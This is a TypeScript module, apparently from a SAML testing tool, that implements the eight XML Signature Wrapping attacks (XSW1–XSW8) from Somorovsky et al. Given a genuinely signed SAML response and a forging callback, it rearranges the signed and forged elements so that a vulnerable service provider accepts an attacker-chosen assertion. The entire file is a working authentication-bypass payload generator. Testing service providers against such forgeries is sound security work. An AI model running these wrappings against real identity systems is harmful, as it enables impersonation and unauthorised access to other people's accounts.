import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { ns } from '../names.ts';

/**
 * The eight forms of signature wrapping, made from a really signed response: each keeps the signed
 * element whole somewhere, and puts a forged assertion where a careless reader looks.
 * @source Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be, USENIX Security 2012
 */
export const wrappings = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;
export type Wrapping = (typeof wrappings)[number];

/** Forms 1 and 2 wrap a signed response, the others a signed assertion. */
export const overOf = (wrapping: Wrapping) =>
  ['XSW1', 'XSW2'].includes(wrapping) ? 'Response' : 'Assertion';

/** @param forge makes of the assertion's text the one that the attacker wants believed */
export function wrap(
  xml: string,
  wrapping: Wrapping,
  forge: (assertion: string) => string,
): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const one = (root: Element, space: string, name: string) => {
    const found = root.getElementsByTagNameNS(space, name)[0];
    if (!found) throw new Error(`no ${name} to wrap`);
    return found;
  };
  const assertion = one(response, ns.assertion, 'Assertion');
  const signature = one(response, ns.signature, 'Signature');
  const reread = (text: string) =>
    document.importNode(new DOMParser().parseFromString(text, 'text/xml').documentElement, true);
  const text = (element: Element) => new XMLSerializer().serializeToString(element);
  const without = (element: Element, removed: Element) => {
    const copy = element.cloneNode(true) as Element;
    const own = copy.getElementsByTagNameNS(ns.signature, removed.localName)[0];
    own?.parentNode?.removeChild(own);
    return copy;
  };
  const evil = reread(forge(text(without(assertion, signature))));
  const renamed = (element: Element) => {
    element.setAttribute('ID', '_evil');
    return element;
  };
  const into = (name: string, space: string, ...children: Element[]) => {
    const holder = document.createElementNS(space, name);
    for (const child of children) holder.appendChild(child);
    return holder;
  };

  switch (wrapping) {
    case 'XSW1':
    case 'XSW2': {
      const original = without(response, signature);
      const own = signature.parentNode?.removeChild(signature) as Element;
      response.replaceChild(evil, assertion);
      renamed(response);
      if (wrapping === 'XSW1') {
        own.appendChild(original);
        response.insertBefore(own, response.firstChild);
      } else {
        response.insertBefore(own, response.firstChild);
        response.insertBefore(original, own);
      }
      break;
    }
    case 'XSW3':
      response.insertBefore(renamed(evil), assertion);
      break;
    case 'XSW4':
      response.replaceChild(renamed(evil), assertion);
      evil.appendChild(assertion);
      break;
    case 'XSW5': {
      const original = without(assertion, signature);
      const forged = renamed(evil);
      forged.appendChild(signature);
      response.replaceChild(forged, assertion);
      response.appendChild(original);
      break;
    }
    case 'XSW6': {
      const original = without(assertion, signature);
      const forged = renamed(evil);
      signature.appendChild(original);
      forged.appendChild(signature);
      response.replaceChild(forged, assertion);
      break;
    }
    case 'XSW7':
      response.insertBefore(into('samlp:Extensions', ns.protocol, renamed(evil)), assertion);
      break;
    case 'XSW8': {
      const original = without(assertion, signature);
      const forged = renamed(evil);
      signature.appendChild(into('ds:Object', ns.signature, original));
      forged.appendChild(signature);
      response.replaceChild(forged, assertion);
      break;
    }
  }
  return text(response);
}
